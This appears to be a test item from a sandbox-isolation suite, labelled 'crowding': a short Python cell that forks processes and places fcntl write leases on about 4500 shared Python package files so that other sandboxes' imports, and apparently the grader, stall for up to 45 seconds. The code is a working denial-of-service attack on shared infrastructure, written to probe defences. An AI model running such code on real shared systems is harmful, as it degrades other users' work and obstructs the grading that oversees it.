# family = "crowding"
# tries = "Leases are taken on the files of Python's packages, which are the same files in every box: whoever opens one waits until the lease is given back, for up to 45 seconds."
# could_earn = "Everybody else's imports: their cells come to their limits of time."
# undefended = "LEAK: 4500 leases on 4500 files. The grader itself waited 45 s to open one of them."
# boxed_only = true

# %% extra
import fcntl
import os
import signal
import sys
import time
from pathlib import Path

signal.signal(signal.SIGIO, signal.SIG_IGN)
reading, writing = os.pipe()
files = [file for file in Path(sys.prefix).rglob("*.py*") if file.is_file()][:4500]
for number in range(0, len(files), 900):
    if os.fork() == 0:
        held = []
        for file in files[number : number + 900]:
            try:
                held.append(os.open(file, os.O_RDONLY | os.O_NONBLOCK))
                fcntl.fcntl(held[-1], fcntl.F_SETLEASE, fcntl.F_WRLCK)
                os.write(writing, b"+")
            except OSError:
                pass
        time.sleep(60)
        os._exit(0)
os.close(writing)
time.sleep(4)
os.set_blocking(reading, False)
try:
    print(f"LEAK: {len(os.read(reading, 10_000))} leases on {len(files)} files")
except BlockingIOError:
    print("none")
